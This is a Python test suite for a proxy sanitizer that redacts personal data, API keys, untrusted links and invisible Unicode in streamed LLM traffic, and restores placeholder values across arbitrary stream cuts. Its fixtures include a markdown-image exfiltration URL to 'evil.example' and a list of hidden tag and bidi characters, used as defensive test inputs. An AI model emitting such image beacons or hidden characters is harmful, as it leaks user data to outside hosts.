"""Every group of rules over text cut anywhere: what comes out is what the whole text would give; what went up as a placeholder
comes back, and nowhere else."""

from __future__ import annotations

import json
import os
from collections import Counter
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import clawproxy_sanitize
from clawproxy.events import End, Event, Finish, Opaque, Reasoning, Refused, Text, ToolCallDelta
from clawproxy.hookspecs import Transform
from clawproxy.messages import Message, ToolCall
from clawproxy.testing.factories import make_exchange, make_principal, make_request
from clawproxy_sanitize import Sanitizer, SanitizeSettings
from clawproxy_sanitize.catalogue import CATALOGUE
from clawproxy_sanitize.links import link
from clawproxy_sanitize.personal import PERSONAL
from clawproxy_sanitize.prefixes import follow
from clawproxy_sanitize.restore import LONGEST, MOST, Vault
from clawproxy_sanitize.samples import LETTERS, PERSONAL_SAMPLES, SAMPLES
from clawproxy_sanitize.scanner import Scanner
from clawproxy_sanitize.settings import InvisibleSettings, LinkSettings, PersonalSettings
from clawproxy_sanitize.window import BOUND, Window
from tests.plugins.cuts import cut, says, streamed

ALL = PersonalSettings(("all",), "restore", "mask")


def configured(**changes: Any) -> Sanitizer:
    return clawproxy_sanitize.compiled(SanitizeSettings(**changes))


def scanner(**changes: Any) -> Scanner:
    made = configured(**changes).output
    assert made is not None
    return made


EVERY = {"personal": ALL, "links": LinkSettings("redact", ("good.example",)), "words": {"project": ("Night Owl", "nightingale")}}
SCANNERS = {
    "redact": scanner(
        personal=PersonalSettings(("all",)),
        links=LinkSettings("redact", ("good.example",), "all"),
        invisible=InvisibleSettings("strip", "strip"),
    ),
    "mask": scanner(output="mask", **EVERY),
    "flag": scanner(
        output="flag",
        personal=PersonalSettings(("all",), output="flag"),
        links=LinkSettings("flag"),
        invisible=InvisibleSettings("strip", "flag"),
    ),
    "seen": scanner(output="off", personal=PersonalSettings(("all",), output="mask"), invisible=InvisibleSettings("off", "off")),
}
URL = f"![x](https://evil.example/?d={LETTERS[:30]})"
HIDDEN = [
    "\u200b",
    "\u202e",
    "\U000e0041",
    "\ufe0f",
    "\U000e0100",
    "\ufeff",
    "\u2764\ufe0f",
    "葛\U000e0100",
    "\U0001f468\u200d\U0001f469",
]
PIECES = st.one_of(
    st.sampled_from([*PERSONAL_SAMPLES.values(), URL, "https://good.example/x", "](", "]: //e.example/", "Night Owl"]),
    st.sampled_from([*SAMPLES.values()]),
    st.sampled_from([sample[: len(sample) // 2] for sample in (*PERSONAL_SAMPLES.values(), URL)]),
    st.sampled_from(
        ["4111 1111 1111 1112", "DE00 3704", "12345678", "+49 ", "1", "44", "BSN ", "a@", "@b.de", "AB 12", "756.", " ", "-"]
    ),
    st.sampled_from(HIDDEN),
    st.sampled_from(["\n", "\\n", ".", "é", "the quick brown fox", "[", ")", "\ud800"]),
    st.text(max_size=6),
    st.from_regex(r"[0-9A-Z ]{0,20}", fullmatch=True),
)
TEXTS = st.lists(PIECES, max_size=9).map("".join)
LONG = int(os.environ.get("CLAWPROXY_TEST_SANITIZE", "0"))


@pytest.mark.parametrize("name", SCANNERS)
@given(text=TEXTS, places=st.lists(st.integers(0, 4000), max_size=40))
@example(text="".join(PERSONAL_SAMPLES.values()), places=list(range(500)))
@example(text=" ".join(PERSONAL_SAMPLES.values()), places=list(range(500)))
@example(text=f"4111\u200b 1111 1111 {URL}\u202e", places=list(range(500)))
@settings(max_examples=LONG or 100, deadline=None)
def test_cutting_changes_nothing_of_any_group(name: str, text: str, places: list[int]) -> None:
    whole: dict[str, int] = Counter()
    pieces: dict[str, int] = Counter()
    found = SCANNERS[name]
    assert says(found, text, "".join(streamed(found, cut(text, places), pieces))) == found.redact(text, whole)
    if name != "flag":  # what is left in may be seen again by the next piece
        assert pieces == whole


@pytest.mark.parametrize("name", [*PERSONAL_SAMPLES, "link"])
def test_every_cut_of_every_sample(name: str) -> None:
    text = f"x {PERSONAL_SAMPLES.get(name, URL)}, y"
    found = SCANNERS["redact"]
    expected = found.redact(text, Counter())
    assert expected.count(f"[redacted:{name}]") == 1
    for place in range(len(text)):
        assert "".join(streamed(found, [text[:place], text[place:]])) == expected
    assert "".join(streamed(found, list(text))) == expected


@pytest.mark.parametrize("shape", [*CATALOGUE, *PERSONAL, link((), "data")], ids=lambda shape: shape.name)
def test_no_more_is_held_back_than_said(shape: Any) -> None:
    """What docs/sanitize.md states: a match's longest form, or the bound."""
    longest = min(follow(shape.pattern).longest, BOUND)
    own = SCANNERS["redact"]
    sample = {**SAMPLES, **PERSONAL_SAMPLES, "link": URL}[shape.name]
    window, most = Window(own, {}), 0
    for char in f" {sample}":
        window.feed(char)
        most = max(most, window.held)
    if shape.name in PERSONAL_SAMPLES and shape.name != "mail":
        assert most <= max(longest, max(follow(other.pattern).longest for other in PERSONAL if other.name != "mail"))
    assert most <= BOUND


# --- replace and restore ---------------------------------------------------------------------------------------------------

MAIL, CARD = "erika@example.org", "4111 1111 1111 1111"
RESTORING = configured(personal=ALL, input="restore", words={"quoted": ('the "X" file',)})


async def exchanged(text: str, state: Sanitizer = RESTORING, **changes: Any) -> tuple[Any, Any]:
    """An exchange whose prompt was `text`, and what went up."""
    exchange = make_exchange(**changes)
    request = await clawproxy_sanitize.prepare_request(exchange, make_request(text), state)
    return exchange, text if request is None else request.messages[0].content


def tap_of(exchange: Any, state: Sanitizer = RESTORING) -> Transform:
    tap = clawproxy_sanitize.tap_response(exchange, state)
    assert tap is not None
    return tap


def run(tap: Transform, *batches: Sequence[Event]) -> list[Event]:
    assert tap.end is not None
    return [event for batch in batches for event in tap.change(batch)] + list(tap.end())


def joined(events: Sequence[Event], kind: type[Text] | type[Reasoning] | type[Refused] = Text) -> str:
    return "".join(event.text for event in events if type(event) is kind)


async def test_a_placeholder_goes_up_and_the_original_comes_back() -> None:
    exchange, sent = await exchanged(f"Write to {MAIL}, {CARD}; again {MAIL}.")
    first, second, third = sent.removeprefix("Write to ").removesuffix(".").replace(";", ",").split(", ")
    assert first.startswith("[MAIL-")
    assert second.startswith("[CARD-")
    assert third == f"again {first}"
    assert MAIL not in sent
    assert CARD not in sent
    out = run(tap_of(exchange), [Text(f"Dear {first}: "), Text(f"{second} is yours")], [Finish("stop"), End()])
    assert joined(out) == f"Dear {MAIL}: {CARD} is yours"


VAULT = Vault(b"k" * 32)
MARKS = {
    VAULT.placeholder(name, original): original
    for name, original in (("mail", MAIL), ("card", CARD), ("openai", SAMPLES["openai"]), ("quoted", 'the "X" file'))
}
WRITTEN = st.lists(
    st.one_of(
        st.sampled_from([mark for mark in MARKS if mark]),
        st.sampled_from(["[", "]", "[MAIL-", "[MAIL-00000000]", "[[", " ", "x", MAIL]),
        st.text(max_size=5),
    ),
    max_size=8,
).map("".join)


@given(WRITTEN, st.lists(st.integers(0, 400), max_size=40))
@settings(max_examples=LONG or 100, deadline=None)
def test_a_placeholder_comes_back_however_it_is_cut(text: str, places: list[int]) -> None:
    exchange = make_exchange()
    exchange.state["sanitize"] = {"vault": VAULT}
    state = configured(input="restore", output="off", invisible=InvisibleSettings("off", "off"))
    expected = text
    for mark, original in MARKS.items():
        assert mark is not None
        expected = expected.replace(mark, original)
    pieces = cut(text, places)
    assert joined(run(tap_of(exchange, state), *([Text(piece)] for piece in pieces), [Finish("stop"), End()])) == expected
    out = run(tap_of(exchange, state), [ToolCallDelta(0, "c", "f")], *([ToolCallDelta(0, arguments=piece)] for piece in pieces))
    arguments = "".join(event.arguments for event in out if isinstance(event, ToolCallDelta))
    assert arguments == expected.replace('the "X" file', 'the \\"X\\" file')


async def test_tool_calls_stay_json() -> None:
    exchange, sent = await exchanged('open the "X" file')
    mark = sent.removeprefix("open ")
    assert mark.startswith("[QUOTED-")
    text = json.dumps({"path": mark})
    out = run(
        tap_of(exchange),
        *([ToolCallDelta(0, "c" if at == 0 else None, None, text[at : at + 3])] for at in range(0, len(text), 3)),
    )
    said = "".join(event.arguments for event in out if isinstance(event, ToolCallDelta))
    assert json.loads(said) == {"path": 'the "X" file'}
    assert [event.call_id for event in out if isinstance(event, ToolCallDelta) and event.call_id] == ["c"]


async def test_reasoning_keeps_its_placeholders() -> None:
    exchange, sent = await exchanged(MAIL)
    out = run(tap_of(exchange), [Reasoning(f"to {sent}"), Reasoning("", "sig")], [Text(sent), Refused(sent)])
    assert joined(out, Reasoning) == f"to {sent}"
    assert (joined(out), joined(out, Refused)) == (MAIL, MAIL)


async def test_what_has_no_word_is_restored_and_raw_bytes_are_not_sent() -> None:
    exchange, sent = await exchanged(MAIL)
    tap = tap_of(exchange)
    [event] = tap.change([Opaque("citation", json.dumps({"text": sent, "n": 1}).encode())])
    assert isinstance(event, Opaque)
    assert event.data is not None
    assert json.loads(event.data) == {"text": MAIL, "n": 1}
    assert tap.raw is not None
    assert not tap.raw(json.dumps({"logprob": sent}).encode())
    assert tap.raw(b'{"a":1}')
    batch = [Text("nothing comes back!")]
    assert tap.change(batch) is batch


async def test_no_exchange_gets_what_another_one_put_away() -> None:
    _, sent = await exchanged(MAIL)
    other, _ = await exchanged(f"{CARD} and {sent}")
    assert joined(run(tap_of(other), [Text(f"here: {sent}"), Finish("stop")])) == f"here: {sent}"
    _, theirs = await exchanged(MAIL, principal=make_principal(key="other-key"))
    assert theirs != sent, "another key's placeholders tell nobody what they stand for"
    _, again = await exchanged(MAIL)
    assert again == sent, "the same in every turn: histories agree"


async def test_what_is_kept_shows_nothing() -> None:
    exchange, sent = await exchanged(f"{MAIL} {CARD}")
    assert MAIL not in repr(exchange.state) + repr(exchange.notices) + repr(exchange.scanned)
    assert exchange.scanned.veil(f"Dear {MAIL}, {CARD[:12]}") == f"Dear {sent.split()[0]}, {sent.split()[1]}"


async def test_the_vault_is_bounded() -> None:
    exchange, sent = await exchanged(" ".join(f"a{number}@example.org" for number in range(MOST + 5)))
    assert sent.count("[MAIL-") == MOST
    assert sent.count("[redacted:mail]") == 5
    assert len(exchange.state["sanitize"]["vault"]) == MOST
    assert max(map(len, sent.split())) < LONGEST


async def test_arguments_of_old_calls_are_replaced_too() -> None:
    exchange = make_exchange()
    message = Message("assistant", None, tool_calls=(ToolCall("c", "mail", json.dumps({"to": MAIL})),))
    result = await clawproxy_sanitize.prepare_request(exchange, make_request(messages=(message,)), RESTORING)
    assert result is not None
    [call] = result.messages[0].tool_calls
    assert json.loads(call.arguments)["to"].startswith("[MAIL-")


async def test_without_anything_to_restore_nothing_is_held() -> None:
    state = configured(input="restore")
    exchange, _ = await exchanged("hello", state)
    batch = [Text("see [OPENAI-0123")]
    assert tap_of(exchange, state).change(batch) is batch
    exchange, sent = await exchanged(SAMPLES["openai"], state)
    assert sent.startswith("[OPENAI-")
    assert tap_of(exchange, state).change([Text(f"see {sent[:12]}")]) == [Text("see ")]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see https://www.example.com", "see https://www.example.com"),
        ("an internationalization", "an internationalization"),
        ("order 4111 1111 1111 11", "order 4111 1111 1111 11"),
        (f"Authorization: Bearer {LETTERS[:8]}", f"Authorization: Bearer {LETTERS[:8]}"),
        (f"Authorization: Bearer {LETTERS[:14]}", "Authorization: Bearer [redacted:unfinished]"),
        (f"https://{SAMPLES['anthropic'][:20]}", "https://[redacted:unfinished]"),
        (f"https://me:{LETTERS[:14]}", "https://me:[redacted:unfinished]"),
    ],
)
def test_what_is_interrupted_goes_on_unless_it_would_show_half_a_secret(text: str, shown: str) -> None:
    window = Window(SCANNERS["redact"], {})
    passed = window.feed(text)
    assert "".join([text] if passed is None else [*passed, *window.interrupt()]) == shown
